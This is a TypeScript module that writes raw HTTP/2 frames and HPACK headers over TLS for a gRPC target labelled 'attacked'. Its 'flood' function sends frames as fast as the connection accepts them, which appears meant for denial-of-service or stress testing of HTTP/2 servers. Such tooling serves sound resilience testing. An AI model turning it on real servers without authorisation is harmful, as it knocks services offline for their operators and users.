import type { TLSSocket } from 'node:tls'
import type { Stage } from '../stage.ts'
import { openTls, type TlsDial } from './dial.ts'

/** HTTP/2 frame types (RFC 9113 §6). */
export const FRAME = {
  data: 0,
  headers: 1,
  priority: 2,
  reset: 3,
  settings: 4,
  ping: 6,
  window: 8,
  continuation: 9,
} as const

/** HTTP/2 frame flags. */
export const FLAG = { none: 0, endStream: 1, endHeaders: 4 } as const

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')

/** One frame as bytes. */
export function frame(type: number, flags: number, stream: number, payload: Uint8Array = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

/** A four-byte number, as WINDOW_UPDATE and RST_STREAM carry one. */
export function uint32(value: number): Buffer {
  const payload = Buffer.alloc(4)
  payload.writeUInt32BE(value)
  return payload
}

/** Headers as HPACK literals that no table keeps, without Huffman coding (RFC 7541 §6.2.2). */
export function literals(headers: readonly (readonly [string, string])[]): Buffer {
  return Buffer.concat(headers.flatMap(([name, value]) => [Buffer.of(0), text(name), text(value)]))
}

/** The headers of a call, as literals. */
export function callHeaders(path: string, more: readonly (readonly [string, string])[] = []): Buffer {
  return literals([
    [':method', 'POST'],
    [':scheme', 'https'],
    [':path', path],
    [':authority', 'attacked'],
    ['content-type', 'application/grpc'],
    ['te', 'trailers'],
    ...more,
  ])
}

/** Opens a TLS connection and begins HTTP/2 on it, for frames that no library would send. */
export async function openFrames(stage: Stage, dial: TlsDial = {}): Promise<TLSSocket> {
  const socket = await openTls(stage, dial)
  socket.resume()
  socket.write(Buffer.concat([PREFACE, frame(FRAME.settings, FLAG.none, 0)]))
  return socket
}

/** Writes as fast as the connection takes it, until the time is up or the server ends it. @returns how often it wrote */
export async function flood(stage: Stage, socket: TLSSocket, next: (round: number) => Uint8Array): Promise<number> {
  let rounds = 0
  while (!stage.isOver && !socket.destroyed) {
    if (socket.write(next(rounds++))) await new Promise(setImmediate)
    else await drained(socket)
  }
  return rounds
}

function drained(socket: TLSSocket): Promise<void> {
  return new Promise((resolve) => {
    const timer = setTimeout(done, 200)
    function done() {
      clearTimeout(timer)
      socket.off('drain', done)
      socket.off('close', done)
      resolve()
    }
    socket.once('drain', done)
    socket.once('close', done)
  })
}

function text(value: string): Buffer {
  return Buffer.concat([integer(value.length), Buffer.from(value, 'latin1')])
}

/** An integer with a prefix of seven bits (RFC 7541 §5.1). */
function integer(value: number): Buffer {
  if (value < 127) return Buffer.of(value)
  const bytes = [127]
  let rest = value - 127
  while (rest >= 128) {
    bytes.push((rest % 128) + 128)
    rest = Math.floor(rest / 128)
  }
  return Buffer.from([...bytes, rest])
}
